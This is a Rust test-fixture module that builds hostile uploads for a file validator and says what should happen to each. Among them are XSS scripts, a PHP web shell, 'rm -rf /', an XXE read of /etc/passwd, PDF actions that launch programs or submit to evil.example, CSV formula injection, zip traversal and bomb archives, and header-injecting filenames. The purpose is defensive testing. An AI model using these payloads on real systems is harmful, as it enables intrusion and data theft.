//! Files that nobody should be able to hand in, or that must be another file afterwards. All are
//! made here.

use std::io::{Cursor, Write as _};

use flate2::{Compression, write::ZlibEncoder};
use image::{DynamicImage, ImageFormat};

/// A file as somebody sends it.
pub struct Sent {
    pub name: String,
    pub bytes: Vec<u8>,
}

/// What becomes of it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Fate {
    /// Refused with this code.
    Refused(&'static str),
    /// Kept, and served under this type.
    Kept(&'static str),
}

pub const PDF: &[u8] = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF";
/// What must be gone from everything that is kept.
pub const HIDDEN: &[u8] = b"<script>canary-of-an-upload</script>";
/// Where a photo says that it was taken.
pub const PLACE: &[u8] = b"canary-of-a-place";

pub fn png(width: u32, height: u32) -> Vec<u8> {
    written(width, height, ImageFormat::Png)
}

pub fn jpeg(width: u32, height: u32) -> Vec<u8> {
    written(width, height, ImageFormat::Jpeg)
}

fn written(width: u32, height: u32, format: ImageFormat) -> Vec<u8> {
    let mut bytes = Vec::new();
    DynamicImage::new_rgb8(width, height).write_to(&mut Cursor::new(&mut bytes), format).unwrap();
    bytes
}

/// A chunk of a PNG behind its header.
fn with_chunk(kind: &[u8; 4], content: &[u8]) -> Vec<u8> {
    let whole = png(20, 10);
    let length = u32::try_from(content.len()).unwrap().to_be_bytes();
    let body = [&kind[..], content].concat();
    let mut sum = flate2::Crc::new();
    sum.update(&body);
    [&whole[..33], &length, &body, &sum.sum().to_be_bytes(), &whole[33..]].concat()
}

/// A JPEG with a marker segment behind its first two bytes.
fn with_segment(marker: u8, content: &[u8]) -> Vec<u8> {
    let whole = jpeg(20, 10);
    let length = u16::try_from(content.len() + 2).unwrap().to_be_bytes();
    [&whole[..2], &[0xFF, marker], &length, content, &whole[2..]].concat()
}

/// Where a photo was taken, as phones write it (Exif, the GPS directory): one entry with a name.
fn exif() -> Vec<u8> {
    let mut tiff = b"MM\0\x2a\0\0\0\x08".to_vec();
    // One entry that points to the GPS directory at 26.
    tiff.extend(b"\0\x01\x88\x25\0\x04\0\0\0\x01\0\0\0\x1a\0\0\0\0");
    let size = u32::try_from(PLACE.len()).unwrap().to_be_bytes();
    tiff.extend(b"\0\x01\0\x1c\0\x07");
    tiff.extend(size);
    tiff.extend(b"\0\0\0\x2c\0\0\0\0");
    tiff.extend(PLACE);
    [&b"Exif\0\0"[..], &tiff].concat()
}

fn packed(times: usize, content: &[u8]) -> Vec<u8> {
    let mut packed = ZlibEncoder::new(Vec::new(), Compression::best());
    for _ in 0..times {
        packed.write_all(content).unwrap();
    }
    packed.finish().unwrap()
}

fn pdf_with(middle: &[u8]) -> Vec<u8> {
    [&b"%PDF-1.7\n1 0 obj << /Type /Catalog "[..], middle, b" >> endobj\n%%EOF\n"].concat()
}

fn pdf_stream(packed: &[u8]) -> Vec<u8> {
    let head = b"%PDF-1.7\n1 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\n";
    [&head[..], packed, b"\nendstream endobj\n%%EOF\n"].concat()
}

/// A PNG that says it is so large, with next to nothing in it.
fn claiming(width: u32, height: u32) -> Vec<u8> {
    let whole = png(30, 30);
    let mut body = b"IHDR".to_vec();
    body.extend(width.to_be_bytes());
    body.extend(height.to_be_bytes());
    body.extend(&whole[24..29]);
    let mut sum = flate2::Crc::new();
    sum.update(&body);
    [&whole[..12], &body, &sum.sum().to_be_bytes(), &whole[33..]].concat()
}

/// An archive with one member of this name, as a zip without compression.
fn archive(member: &str) -> Vec<u8> {
    let name = member.as_bytes();
    let size = u16::try_from(name.len()).unwrap().to_le_bytes();
    let mut zip = b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec();
    zip.extend(size);
    zip.extend(b"\0\0");
    zip.extend(name);
    let end = u32::try_from(zip.len()).unwrap().to_le_bytes();
    zip.extend(b"PK\x01\x02\x14\0\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0");
    zip.extend(size);
    zip.extend(b"\0\0\0\0\0\0\0\0\xff\xa1\0\0\0\0\0\0");
    zip.extend(name);
    zip.extend(b"PK\x05\x06\0\0\0\0\x01\0\x01\0\0\0\0\0");
    zip.extend(end);
    zip.extend(b"\0\0");
    zip
}

fn deflated_bomb() -> Vec<u8> {
    [archive("a"), packed(64, &[0; 1024 * 1024])].concat()
}

/// What is none of the kinds that are taken, whatever it calls itself.
fn other_kinds() -> Vec<(&'static str, Vec<u8>, Fate)> {
    const KIND: Fate = Fate::Refused("material.kind");
    let svg = b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script><foreignObject/></svg>";
    let page = b"<!doctype html><script>alert(1)</script>";
    let text = |it: &[u8]| it.to_vec();
    vec![
        ("a.svg", text(svg), KIND),
        ("a.png", text(svg), KIND),
        ("a.svg.pdf", text(b"<?xml version='1.0'?><svg onload='alert(1)'/>"), KIND),
        ("a.html", text(page), KIND),
        ("a.pdf", text(page), KIND),
        ("a.jpg", text(b"<html>\xff\xd8\xff"), KIND),
        ("a.pdf", text(b"<html><body>%PDF-1.7</body></html>"), KIND),
        ("a.pdf", text(b" %PDF-1.7\n%%EOF"), KIND),
        ("a.js", text(b"alert(document.cookie)"), KIND),
        ("a.pdf", text(b"alert(document.cookie)//%PDF-1.7"), KIND),
        ("a.php", text(b"<?php system($_GET['c']); ?>"), KIND),
        ("a.jpg", text(b"<?php system($_GET['c']); ?>"), KIND),
        ("a.pdf", text(b"#!/bin/sh\nrm -rf /\n"), KIND),
        ("a.exe", text(b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff"), KIND),
        ("a.pdf", text(b"MZ\x90\0\x03\0\0\0\x04\0\0\0%PDF-1.7"), KIND),
        ("a.png", text(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"), KIND),
        ("a.xml", text(b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"), KIND),
        ("a.docm", archive("word/vbaProject.bin"), KIND),
        ("a.docx", archive("word/document.xml"), KIND),
        ("a.pdf", archive("word/vbaProject.bin"), KIND),
        ("a.xls", text(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0\0\0"), KIND),
        ("a.zip", archive("../../etc/cron.d/a"), KIND),
        ("a.zip", archive("/etc/passwd"), KIND),
        ("a.zip", deflated_bomb(), KIND),
        ("a.pdf", deflated_bomb(), KIND),
        ("a.gz", text(b"\x1f\x8b\x08\0\0\0\0\0\0\xff"), KIND),
        ("a.7z", text(b"7z\xbc\xaf\x27\x1c\0\x04"), KIND),
        ("a.rar", text(b"Rar!\x1a\x07\x01\0"), KIND),
        ("a.tar", [vec![b'a'; 257], b"ustar\x0000".to_vec(), vec![0; 255]].concat(), KIND),
        ("a.gif", text(b"GIF89a\x01\0\x01\0/*<script>*/"), KIND),
        ("a.webp", text(b"RIFF\x24\0\0\0WEBPVP8 "), KIND),
        ("a.bmp", text(b"BM\x46\0\0\0\0\0\0\0\x36\0\0\0"), KIND),
        ("a.ps", text(b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file"), KIND),
        ("a.eml", text(b"From: a@example.cn\r\nSubject: a\r\n\r\n<script>"), KIND),
        ("a.csv", text(b"=cmd|' /C calc'!A0\r\n"), KIND),
        ("a.pdf", Vec::new(), Fate::Refused("material.empty")),
        ("a.pdf", vec![0; 4096], KIND),
    ]
}

/// Documents that do more than show something, or are something else as well.
fn documents() -> Vec<(&'static str, Vec<u8>, Fate)> {
    const ACTIVE: Fate = Fate::Refused("material.program");
    const TWO: Fate = Fate::Refused("material.two_in_one");
    let script = b"1 0 << /S /JavaScript /JS (app.alert(1)) >>";
    vec![
        ("a.pdf", PDF.to_vec(), Fate::Kept("application/pdf")),
        ("a.pdf", pdf_with(b"/OpenAction << /S /JavaScript /JS (1) >>"), ACTIVE),
        ("a.pdf", pdf_with(b"/OpenAction << /S /#4aavaScript >>"), ACTIVE),
        ("a.pdf", pdf_with(b"/AA << /O << /S /Launch /F (calc.exe) >> >>"), ACTIVE),
        ("a.pdf", pdf_with(b"/Names << /EmbeddedFiles 2 0 R >>"), ACTIVE),
        ("a.pdf", pdf_with(b"/AcroForm << /XFA 2 0 R >>"), ACTIVE),
        ("a.pdf", pdf_with(b"/A << /S /SubmitForm /F (http://evil.example) >>"), ACTIVE),
        ("a.pdf", pdf_with(b"/A << /S /GoToE >>"), ACTIVE),
        ("a.pdf", pdf_with(b"/RichMedia 2 0 R"), ACTIVE),
        ("a.pdf", pdf_stream(&packed(1, script)), ACTIVE),
        (
            "a.pdf",
            pdf_stream(&packed(64, &[b' '; 1024 * 1024])),
            Fate::Refused("material.too_many_pixels"),
        ),
        ("a.pdf", [PDF, &archive("a")[..]].concat(), TWO),
        ("a.pdf", [PDF, b"\n<html><script>1</script></html>"].concat(), TWO),
        ("a.pdf", [PDF, &[b' '; 4096]].concat(), TWO),
        ("a.jpg", PDF.to_vec(), Fate::Refused("material.name")),
        ("a.pdf.exe", PDF.to_vec(), Fate::Refused("material.name")),
        ("a.html", PDF.to_vec(), Fate::Refused("material.name")),
    ]
}

/// Pictures: what hides in them is gone when they are written anew.
fn pictures() -> Vec<(&'static str, Vec<u8>, Fate)> {
    const PNG: Fate = Fate::Kept("image/png");
    const JPEG: Fate = Fate::Kept("image/jpeg");
    let large = Fate::Refused("material.too_many_pixels");
    let text = [&b"Comment\0"[..], HIDDEN].concat();
    let cut = png(300, 300);
    vec![
        ("a.png", png(20, 10), PNG),
        ("a.jpg", jpeg(20, 10), JPEG),
        ("a.png", [png(20, 10), HIDDEN.to_vec()].concat(), PNG),
        ("a.png", [png(20, 10), archive("a")].concat(), PNG),
        ("a.png", with_chunk(b"tEXt", &text), PNG),
        ("a.png", with_chunk(b"eXIf", &exif()[6..]), PNG),
        ("a.jpg", [jpeg(20, 10), HIDDEN.to_vec()].concat(), JPEG),
        ("a.jpg", with_segment(0xFE, HIDDEN), JPEG),
        ("a.jpg", with_segment(0xE1, &exif()), JPEG),
        ("a.jpg", [jpeg(20, 10), PDF.to_vec()].concat(), JPEG),
        ("a.png", claiming(60_000, 60_000), large),
        ("a.png", claiming(12_001, 1), large),
        ("a.png", cut[..cut.len() / 2].to_vec(), Fate::Refused("material.damaged")),
        ("a.pdf", png(20, 10), Fate::Refused("material.name")),
        ("a.svg", png(20, 10), Fate::Refused("material.name")),
    ]
}

/// All of them.
pub fn corpus() -> Vec<(Sent, Fate)> {
    let all = [other_kinds(), documents(), pictures()].concat();
    let sent = |name: &str, bytes| Sent { name: name.to_owned(), bytes };
    all.into_iter().map(|(name, bytes, fate)| (sent(name, bytes), fate)).collect()
}

/// Names that lead somewhere, end a header, turn the writing round or are a device, and what is
/// left of them.
pub const NAMES: [(&str, &str); 12] = [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\windows\\a.pdf", "a.pdf"),
    ("/etc/cron.d/a.pdf", "a.pdf"),
    ("a\u{1}b\u{7f}.pdf", "ab.pdf"),
    ("a\r\nSet-Cookie: a=b\r\n\r\n.pdf", "aSet-Cookie: a=b.pdf"),
    ("\u{202e}fdp.exe.pdf", "fdp.exe.pdf"),
    ("\"a\"; filename=\"b.pdf", "\"a\"; filename=\"b.pdf"),
    ("布局图（一）.pdf", "布局图（一）.pdf"),
    ("CON.pdf", "CON.pdf"),
    ("....pdf", "layout-plan.pdf"),
    ("<img src=x onerror=alert(1)>.pdf", "<img src=x onerror=alert(1)>.pdf"),
    ("%2e%2e%2fa.pdf", "%2e%2e%2fa.pdf"),
];
